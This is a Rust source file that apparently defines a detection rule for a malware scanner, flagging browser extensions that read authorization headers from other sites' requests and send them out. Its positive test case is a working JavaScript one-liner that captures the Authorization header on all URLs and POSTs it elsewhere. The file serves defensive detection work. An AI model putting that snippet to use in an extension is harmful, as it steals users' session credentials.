//! `extension-headers-taken`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-headers-taken",
    description: "An extension reads the session of other sites from their requests and sends data.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::HeadersSeen]),
        one(&[Atom::SecretHeader]),
        one(&[Atom::Request, Atom::Post, Atom::Beacon, Atom::Socket]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>{for(const h of d.requestHeaders)if(h.name.toLowerCase()==='authorization')fetch(u,{method:'POST',body:h.value})},{urls:['<all_urls>']},['requestHeaders'])",
        ],
        without: &[
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>{d.requestHeaders.push({name:'DNT',value:'1'});return {requestHeaders:d.requestHeaders}},f,['blocking'])",
            "chrome.webRequest.onBeforeSendHeaders.addListener(d=>({requestHeaders:d.requestHeaders.filter(h=>h.name!=='Cookie')}),f,['blocking'])",
        ],
    },
};
